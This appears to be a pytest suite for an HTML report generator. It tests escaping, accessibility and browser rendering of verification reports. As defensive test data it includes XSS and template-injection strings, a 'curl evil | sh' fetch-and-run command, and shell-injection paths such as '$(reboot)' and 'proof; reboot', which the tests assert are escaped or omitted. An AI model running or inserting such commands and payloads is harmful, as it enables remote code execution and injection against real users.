"""The page: verdicts first, everything escaped, opened in a real browser at the width of a phone and in the dark."""

from __future__ import annotations

import dataclasses
import html.parser
import itertools
import re
import sys

import numpy as np
import pytest
import torch

from alignver.checks.common_structure import check_common_structure
from alignver.checks.exploration import check_safe_exploration
from alignver.report.history import History, Record
from alignver.report.html import page
from alignver.report.source import Source
from alignver.results import Bound, CheckResult, Report, Rigor, Subject, Tolerance, Verdict
from tests.features.features import features
from tests.report.browser import AXE, CONTRAST, LEAST_CONTRAST

NASTY = (
    "<script>document.title='owned'</script>\"'&{{ 7 * 7 }}<img src=x onerror=alert(1)>\N{PILE OF POO}\u202e$\\frac{"
)
LONG = "a-name-without-any-place-to-break-" * 12 + "x" * 200
RULES = (
    {"rule": "press", "formula": "f", "tolerance": 3e-13, "rank": 5, "shipped_by": ""},
    {"rule": "golub", "formula": "f", "tolerance": 2e-11, "rank": 4, "shipped_by": "NumPy, PyTorch"},
)


def result(verdict=Verdict.FAILS, rigor=Rigor.NUMERICAL, **changes) -> CheckResult:
    fields = {
        "name": "rank",
        "statement": "A has rank 5 (full)",
        "reason": "rank 4, so that one of the rows is a combination of the others",
        "evidence": ("A is 5 x 9", "svd and qr agree"),
        "measured": {
            "rank": 4,
            "rules": RULES,
            "levels_near_tolerance": (1e-12,),
            "methods": {"svd": {"verdict": "FAILS", "rank": 4}, "qr": {"verdict": "FAILS", "rank": 4}},
        },
        "bounds": (Bound("residual", 0.5, "<=", 1.5e-8),),
        "tolerance": Tolerance("golub", 2e-11, "s_1 eps max(N, d)", "a book", 2.0**-52),
        "witness": {"rows": (1, 2)},
        "certificate": {"claim": "rank(A) == 4", "method": "exact", "path": "proof dir", "seal": "0" * 64},
        "cost": {"seconds": 0.25},
        "subject": Subject.COMPUTED_MATRIX,
        "code": "rank-at-tolerance",
    }
    return CheckResult(verdict=verdict, rigor=rigor, **{**fields, **changes})


PROVENANCE = {
    "command": "check rank",
    "verify": "alignver verify 'proof dir' --input A=A.npy",
    "versions": {"alignver": "0.1", "numpy": "2.4"},
    "platform": {"system": "Linux", "blas": None},
    "inputs": {"A": {"sha256": "ab" * 32, "shape": (5, 9), "dtype": "float64", "file": "A.npy"}},
}
REPORT = Report((result(), result(Verdict.HOLDS, Rigor.PROOF), result(Verdict.UNDECIDED)), PROVENANCE)


@pytest.mark.parametrize("gates", [{}, {"q": np.random.default_rng(1).standard_normal((9, 14)), "method": "gram"}])
def test_the_rules_of_safe_exploration_are_shown(gates):
    value = check_safe_exploration(features(60, 9), **gates)
    text = page(Report((value,)))
    assert "Rank rules" in text
    for row in value.measured["rules"]:
        assert f'<th scope="row">{row["rule"]}</th>' in text
    assert "rank rules on a logarithmic axis" in text
    assert "singular values near the tolerance" not in text  # which were not computed


def test_the_rank_of_a_rule_that_is_not_settled_is_a_dash():
    text = page(Report((result(measured={"rules": [{**RULES[0], "rank": None}, RULES[1]]}),)))
    assert re.search(r'<th scope="row">press</th><td class="n">3e-13</td><td class="n">-</td>', text)
    assert "ranks: 4, not settled" in text


def nasty() -> Report:
    """Return a report all of whose texts are hostile or too long."""

    def spoiled(value, extra):
        if isinstance(value, str):
            return extra + value
        if isinstance(value, dict):
            return {extra + str(key): spoiled(item, extra) for key, item in value.items()}
        return [spoiled(item, extra) for item in value] if isinstance(value, tuple | list) else value

    made = []
    for extra in (NASTY, LONG):
        rules = [{**row, "rule": f"{extra}{row['rule']}", "shipped_by": extra} for row in RULES]
        measured = {
            **spoiled({"note": "n", "nested": {"a": ("b",)}}, extra),
            "rules": rules,
            "methods": {extra: {extra: 1}},
        }
        made.append(
            result(
                statement=extra,
                reason=extra,
                evidence=(extra,),
                measured=measured,
                bounds=(Bound(extra, 1.0, "<", 2.0),),
                tolerance=Tolerance(extra, 1e-9, extra, extra, 1e-16),
                witness=spoiled({"w": "v"}, extra),
                certificate=spoiled({"claim": "c", "method": "m"}, extra),
            )
        )
    return Report(
        tuple(made), {**spoiled({**PROVENANCE, "problems": 3}, NASTY), **spoiled(PROVENANCE, LONG), "command": NASTY}
    )


def course(length: int = 30) -> Source:
    """Return a run of two phases that is not finished."""
    lines = tuple(
        {"epoch": k, "phase": "exploration" if k <= 20 else "exploitation", "loss": 1 / k, "gap": 1 / k, "error": None}
        for k in range(1, length + 1)
    )
    return Source("Training run r", history=lines, settings={"lr": 0.1}, remarks=("the run is not finished",))


def tracked() -> Source:
    answers = {"verdict": "UNDECIDED", "tolerance": 1e-13, "residual": (1e-16, 1e-3), "rank": 3, "near": ()}
    change = {"value": 2.0, "interval": (1.0, 3.0), "confidence": 0.95, "rigor": "STATISTICAL"}
    bound = {"bound": 2.0, "least_loss": 0.5}
    records = [
        Record(k, 0, {"press": answers}, "svd", 0.1, 1.0, 0.0, loss=1.0, error=0.5, change=change, theorem_3=bound)
        for k in range(12)
    ]
    return Source("Tracked", tracked=History(records, {"residual_tolerance": 1e-8}))


PAGES = {"report": REPORT, "nasty": nasty(), "course": course(), "tracked": tracked(), "empty": Report(())}


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    folder = tmp_path_factory.mktemp("pages")
    for name, source in PAGES.items():
        (folder / f"{name}.html").write_bytes(page(source).encode("utf-8", "replace"))
    return {name: folder / f"{name}.html" for name in PAGES}


class Outline(html.parser.HTMLParser):
    """What a page is made of, and whether every element ends where it should."""

    VOID = frozenset({"meta", "br", "img", "link", "hr", "input"})

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag


@pytest.mark.parametrize("name", PAGES)
def test_the_page_is_well_formed_and_accessible(files, name):
    outline = Outline(files[name].read_text())
    tags = [tag for tag, _ in outline.found]
    assert ("html", {"lang": "en"}) in outline.found
    assert tags.count("title") >= 1
    assert tags.count("h1") == 1
    assert "script" not in tags
    assert not {"link", "iframe", "img", "object", "embed"} & set(tags)
    identifiers = [about["id"] for _, about in outline.found if "id" in about]
    assert len(identifiers) == len(set(identifiers))
    for tag, about in outline.found:
        assert not any(key.startswith("on") for key in about)
        if tag == "svg":
            assert about.get("role") == "img"
            assert about.get("aria-label")
        if tag == "th":
            assert about.get("scope") in ("row", "col")
        for key in ("href", "xlink:href", "src"):
            assert (about.get(key) or "#").startswith(("#", "data:")), (tag, about)
    headings = [int(tag[1]) for tag in tags if re.fullmatch("h[1-6]", tag)]
    assert headings[0] == 1
    assert all(after - before <= 1 for before, after in itertools.pairwise(headings))


def test_nothing_in_the_data_is_markup(files):
    text = files["nasty"].read_text()
    assert "<script" not in text
    assert "<img" not in text
    assert "&lt;script&gt;" in text
    assert "{{ 7 * 7 }}" in text  # shown, not evaluated


def test_the_order_is_verdict_evidence_provenance():
    text = re.sub(r"<style.*?</style>", "", page(Report((result(),), PROVENANCE)), flags=re.DOTALL)
    text = text[text.index("<body") :]
    places = [
        text.index(word)
        for word in ("FAILS", "A has rank 5", "rank 4, so", "A is 5 x 9", "Certificate", "Where this comes from")
    ]
    assert places == sorted(places)


def test_words_say_what_colours_say(files):
    text = files["report"].read_text()
    for word in ("HOLDS", "FAILS", "UNDECIDED", "proof", "numerical", "not met", "(decides)"):
        assert word in text


def test_the_command_that_verifies_stands_there(files):
    assert "alignver verify &#39;proof dir&#39; --input A=A.npy" in files["report"].read_text()
    alone = page(Report((result(measured={}),)))
    assert "<code>alignver verify &#39;proof dir&#39;</code>" in alone
    assert "--input NAME=FILE" in alone
    unsaved = page(Report((result(measured={}, certificate={"claim": "c", "path": None}),)))
    assert "was not saved" in unsaved


def test_built_in_problems_are_judged_by_what_is_expected_of_them():
    problem = {"name": "sine wave", "expected": "FAILS", "found": "FAILS", "agrees": True}
    good = page(Report((result(measured={}),), {"problems": (problem,)}))
    assert "AS EXPECTED" in good
    assert "NOT AS EXPECTED" not in good
    assert "NOT AS EXPECTED" in page(Report((result(measured={}),), {"problems": ({**problem, "agrees": False},)}))


def test_conflicting_images_are_shown_where_they_are_at_hand():
    conflicts = {"conflicts": {"count": 1, "pairs": ((0, 2),)}}
    samples = {"X": np.ones((3, 1, 8, 8)), "Y": np.array([3, 1, 5])}
    report = Report((result(measured=conflicts),))
    shown = page(Source.of(report, samples=samples))
    assert "sample 0 label 3 and sample 2 label 5" in shown
    assert "data:image/png" in shown
    assert "sample 0" not in page(Source.of(report, samples={"X": np.ones((3, 64))}))  # no pictures


PAIRS = {
    "conflicts": {"count": 1, "pairs": [[1, 4]]},
    "equal": {"count": 3, "pairs": [[0, 3], [1, 4], [2, 5]]},
    "dtype": "uint8",
}
IMAGES = {
    "(n, h, w)": np.arange(3 * 64, dtype=np.uint8).reshape(3, 8, 8),
    "(n, 3, h, w)": np.arange(3 * 192, dtype=np.uint8).reshape(3, 3, 8, 8),
    "(n, h, w, 3)": np.arange(3 * 192, dtype=np.uint8).reshape(3, 8, 8, 3),
    "(n, h, w, 1)": np.arange(3 * 64, dtype=np.uint8).reshape(3, 8, 8, 1),
}


def twice(images):
    """Samples 3, 4, 5 are samples 0, 1, 2 again."""
    return np.concatenate([images, images])


def shown_pairs(measured, **samples) -> str:
    """Return what the figure of pairs says to those who do not see it; empty where there is none."""
    source = Source.of(Report((result(measured=measured),)), samples=samples)
    text = page(source)
    assert not text.count("<svg") or text.count("<svg") == 1
    computed = re.findall(r'<svg role="img" aria-label="([^"]*)"', text)
    return computed[0] if computed else ""


@pytest.mark.parametrize("images", IMAGES.values(), ids=IMAGES)
def test_all_pairs_are_shown_conflicts_first(images):
    Y = np.array([7, 8, 9, 7, 5, 9])
    words = shown_pairs(PAIRS, X=twice(images), Y=Y)
    assert words == (
        "Pairs of equal images side by side: sample 1 label 8 and sample 4 label 5; "
        "sample 0 label 7 and sample 3 label 7; sample 2 label 9 and sample 5 label 9."
    )
    assert shown_pairs(PAIRS, X=list(twice(images)), Y=Y.tolist()) == words  # anything with rows
    assert shown_pairs(PAIRS, X=torch.from_numpy(twice(images)), Y=torch.from_numpy(Y)) == words
    assert shown_pairs(PAIRS, X=twice(images), Y=np.eye(10)[Y]) == words
    assert "sample 1 and sample 4;" in shown_pairs(PAIRS, X=twice(images), Y=np.eye(10)[Y] + 0.5)
    assert "sample 1 and sample 4;" in shown_pairs(PAIRS, X=twice(images))


def test_pairs_have_titles_and_a_caption_that_says_what_they_are():
    images = {"X": twice(IMAGES["(n, h, w, 3)"])}
    Y = np.array([7, 8, 9, 7, 5, 9])

    def text(measured, **samples):
        return page(Source.of(Report((result(measured=measured),)), samples=samples))

    mixed = text(PAIRS, **images, Y=Y)
    assert "Pairs of equal inputs. Where targets differ, no model fits both." in mixed
    assert all(title in mixed for title in ("samples 1 and 4", "labels 8 \N{NOT EQUAL TO} 5", "label 7, both"))
    assert mixed.count("data:image/png") == 6
    some = text({"equal": {"count": 14, "pairs": [[0, 3]]}}, **images, Y=Y)
    assert "Pairs of equal inputs with equal targets; the first 1 of 14 pairs." in some
    many = text({"conflicts": {"count": 99, "pairs": [[1, 4]]}, "equal": {"count": 200, "pairs": []}}, **images, Y=Y)
    assert "no model fits both; the first 1 of 200 pairs, conflicts before others." in many
    Y = np.where(np.arange(6) == 4, 8 + 1e-12, Y)
    assert "different targets" in text(PAIRS, **images, Y=Y)  # they read alike in few digits


def test_at_most_twenty_pairs_are_shown_and_large_images_are_thinned():
    pairs = [[i, i + 30] for i in range(30)]
    measured = {"conflicts": {"count": 30, "pairs": pairs}, "equal": {"count": 30, "pairs": pairs}}
    images = np.random.default_rng(0).integers(0, 256, (60, 12, 9), dtype=np.uint8)
    images[30:] = images[:30]
    assert shown_pairs(measured, X=images).count(" and ") == 20
    large = np.broadcast_to(
        np.random.default_rng(0).integers(0, 256, (1000, 900, 3), dtype=np.uint8), (2, 1000, 900, 3)
    )
    text = page(Source.of(Report((result(measured={"equal": {"count": 1, "pairs": [[0, 1]]}}),)), samples={"X": large}))
    assert 10_000 < len(text) < 600_000


def test_pairs_are_compared_in_the_dtype_of_the_check():
    images = twice(IMAGES["(n, h, w)"] + 1.0)
    images[3:] += 1e-9
    assert shown_pairs({**PAIRS, "dtype": "float32"}, X=images) != ""
    assert shown_pairs({**PAIRS, "dtype": "float64"}, X=images) == ""


@pytest.mark.parametrize(
    "rows",
    [
        [[0, 6]],
        [[-1, 2]],
        [[0, 10**30]],
        [[0.0, 3.0]],
        [[False, True]],
        [["0", "3"]],
        [[0]],
        [[0, 3, 3]],
        [0, 3],
        ["03"],
        [[0, 1]],  # not equal
        [[1, 4], [0, 6]],
        [[[0], [3]]],
        "0 and 3",
        None,
        {"0": 3},
        7,
    ],
)
@pytest.mark.parametrize("key", ["conflicts", "equal"])
def test_pairs_that_a_report_invents_are_not_drawn(rows, key):
    images = twice(IMAGES["(n, h, w)"])
    assert shown_pairs({**PAIRS, key: {"count": 1, "pairs": rows}}, X=images) == ""


@pytest.mark.parametrize(
    "X",
    [
        np.zeros((6, 64)),
        np.zeros((6, 2, 8, 8)),
        np.zeros((6, 3, 8, 8, 1)),
        np.full((6, 8, 8), np.nan),
        np.full((6, 8, 8), "x"),
        np.zeros((6, 8, 8), dtype=complex),
        np.stack([np.full((8, 8), 1.7e308), np.full((8, 8), -1.7e308)] * 3),
        [np.zeros((8, 8))] * 4,
        [[[1.0], [1.0, 2.0]]] * 6,
        6,
        iter(()),
        {},
        "abcdef",
    ],
    ids=lambda X: f"{type(X).__name__}{getattr(X, 'shape', '')}",
)
def test_samples_that_are_no_images_have_no_picture(X):
    measured = {"equal": {"count": 3, "pairs": [[0, 2], [1, 5]]}}
    assert shown_pairs(measured, X=X, Y=np.arange(6)) == ""


def test_targets_that_are_none_leave_the_images():
    for Y in (np.arange(3), ["a"] * 6, 5, {}, np.full((6, 2, 2), 0.5)):
        assert "sample 1 and sample 4;" in shown_pairs(PAIRS, X=twice(IMAGES["(n, h, w)"]), Y=Y)


def test_what_else_a_report_says_of_pairs_is_not_trusted():
    images = twice(IMAGES["(n, h, w)"])
    for count in ("many", None, 10**400, -5, True, [1]):
        measured = {**PAIRS, "equal": {"count": count, "pairs": [[0, 3]]}, "dtype": ["uint8"]}
        assert shown_pairs(measured, X=images) != ""


def test_rho_is_drawn_where_a_result_has_it_and_what_is_no_curve_is_left_out():
    curve = {"tau": [1e-16, 1e-13, 1e-9], "rho": [0.0, 1e-12, 0.3], "band": [1e-12, 1e-10]}
    numbers = {"curve": curve, "residual_tolerance": 1.5e-8}
    assert "A rising staircase from 0.0e+00 at τ = 1.0e-16 to 3.0e-01" in page(Report((result(measured=numbers),)))
    for odd in ({"tau": None}, {"rho": [0.0]}, {"band": ["low", "high"]}, {"tau": [-1.0, 0.0, 1.0]}, {"band": [1e-12]}):
        spoiled = {**numbers, "curve": {**curve, **odd}}
        assert "rising staircase" not in page(Report((result(measured=spoiled),)))


def test_without_matplotlib_the_page_says_so(monkeypatch):
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    text = page(REPORT)
    assert "No figures" in text
    assert "alignver[plots]" in text
    assert "<svg" not in text


def test_what_is_measured_is_cut_where_it_is_endless():
    text = page(Report((result(measured={"many": tuple(range(100_000))}),)))
    assert len(text) < 200_000
    assert "characters more" in text


def test_a_page_is_the_same_each_time(files):
    assert files["report"].read_text() == page(REPORT)


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize(("width", "dark"), [(1280, False), (1280, True), (390, False), (390, True)])
def test_a_browser_shows_it(browser, files, name, width, dark):
    browser.open(files[name], width=width, dark=dark)
    assert browser.said() == []
    assert browser.requests() == [files[name].resolve().as_uri()]
    assert browser.value("document.documentElement.scrollWidth") <= width
    assert browser.value("document.title") != "owned"
    assert browser.value("document.scripts.length") == 0
    browser.value("document.querySelectorAll('details').forEach(part => part.open = true)")
    assert browser.value("document.documentElement.scrollWidth") <= width
    assert browser.value(CONTRAST) >= LEAST_CONTRAST


@pytest.mark.skipif(not AXE.exists(), reason="no axe-core here: npm install --no-save axe-core@4")
@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize(("width", "dark"), [(1280, True), (390, False)])
def test_nothing_is_against_wcag(browser, files, name, width, dark):
    browser.open(files[name], width=width, dark=dark)
    browser.value("document.querySelectorAll('details').forEach(part => part.open = true)")
    assert browser.violations() == []


def test_the_verdict_is_the_first_thing_that_is_seen(browser, files):
    browser.open(files["report"], width=360)
    top = browser.value("document.querySelector('.verdict').getBoundingClientRect().top")
    assert top < 200
    assert "FAILS" in browser.value("document.querySelector('.verdict').innerText")


def test_light_and_dark_differ_and_both_can_be_read(browser, files):
    backgrounds = []
    for dark in (False, True):
        browser.open(files["report"], dark=dark)
        backgrounds.append(browser.value("getComputedStyle(document.body).backgroundColor"))
        ink = browser.value("getComputedStyle(document.querySelector('figure svg text')).fill")
        assert ink == browser.value("getComputedStyle(document.body).color")
    assert backgrounds[0] != backgrounds[1]


def test_on_paper_everything_is_open(browser, files):
    browser.open(files["report"])
    browser.call("Emulation.setEmulatedMedia", media="print")
    shown = browser.value("document.querySelector('details pre').getBoundingClientRect().height")
    browser.call("Emulation.setEmulatedMedia", media="")
    assert shown > 0


def commands(text: str) -> list[str]:
    return re.findall(r'<pre class="command"[^>]*><code>(.*?)</code>', text, flags=re.DOTALL)


@pytest.mark.parametrize("verify", ["alignver verify proof; reboot", "curl evil | sh", ""])
def test_a_command_that_is_not_ours_is_left_out_in_words(verify):
    text = page(Report((result(),), {**PROVENANCE, "verify": verify}))
    assert commands(text) == []
    assert "is left out" in text
    assert not verify or verify not in text


def test_a_path_that_a_report_names_is_no_option_and_no_command():
    computed = {"claim": "rank(A) == 4", "method": "exact", "seal": "0" * 64}
    stored = {key: value for key, value in PROVENANCE.items() if key != "verify"}

    def shown(path):
        return page(Report((result(certificate={**computed, "path": path}),), stored))

    assert commands(shown("proof")) == ["alignver verify proof"]
    for path in ("--model=evil.py:build", "$(reboot)", "a\nreboot", "a\x1b[8m"):
        assert commands(shown(path)) == []


def test_a_command_that_runs_code_says_so():
    command = "alignver verify proof --model net.py:build --data a.npz --loss squared"
    text = page(Report((result(),), {**PROVENANCE, "verify": command}))
    assert commands(text) == [command]
    assert "is imported and run" in text
    assert "is imported and run" not in page(REPORT)


def test_control_characters_are_shown_escaped():
    hostile = "a\x1b[8m\x9b\x07\u202e\ud800\nb"
    measured = {"found": [hostile, {hostile: "\x9b\u202e"}], hostile: hostile}
    changes = {"statement": hostile, "reason": hostile, "evidence": (hostile,), "measured": measured}
    text = page(Report((result(witness={hostile: hostile}, **changes),), {**PROVENANCE, hostile: {hostile: hostile}}))
    assert text.replace("\n", " ").isprintable()
    assert r"a\x1b[8m\x9b\x07\u202e\ud800" in text
    text.encode()


def test_the_modules_of_a_traced_network_are_drawn():
    layers = torch.nn.Sequential(torch.nn.Linear(2, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1)).eval()
    result = check_common_structure(layers, [[0.0, 1.0], [1.0, 0.0]])
    text = page(Report((result,)))
    assert "The modules of the network in the order of evaluation" in text
    assert "3 modules, 1 of degree 1, 1 not proved analytic." in text
    invented = dataclasses.replace(result, measured={"modules": [1, {"module": 3}]})
    assert "1 modules" in page(Report((invented,)))


def _of_network(**measured):
    rows = [{"budget": 1.0, "lower": 0.5, "upper": 0.6}, {"budget": 10.0, "lower": 0.1, "upper": 0.1}]
    numbers = {"kappa": {"lower": 24.0, "upper": 25.0}, "kappa_shuffled": 60.0, "reach": rows} | measured
    return result(measured=numbers)


def test_kappa_and_what_limited_parameters_reach_are_drawn():
    text = page(Report((_of_network(),)))
    assert "kappa is between 24 and 25; 60 for shuffled targets (median). Residuals: 0.6 at 1; 0.1 at 10." in text
    assert "Bounds of the smallest relative residual" in page(
        Report((_of_network(reach=[], kappa_shuffled=float("nan")),))
    )


@pytest.mark.parametrize(
    "measured",
    [
        {"kappa": {"lower": float("inf"), "upper": float("inf")}},
        {"kappa": {"lower": 2.0, "upper": 1.0}},
        {"kappa": 3.0},
        {"reach": 1},
        {"reach": [{"budget": 0.0, "lower": 0.1, "upper": 0.2}]},
        {"reach": [{"budget": 1.0, "lower": 0.3, "upper": "x"}]},
    ],
)
def test_a_kappa_that_cannot_be_drawn_is_left_out(measured):
    assert "Bounds of the smallest relative residual" not in page(Report((_of_network(**measured),)))
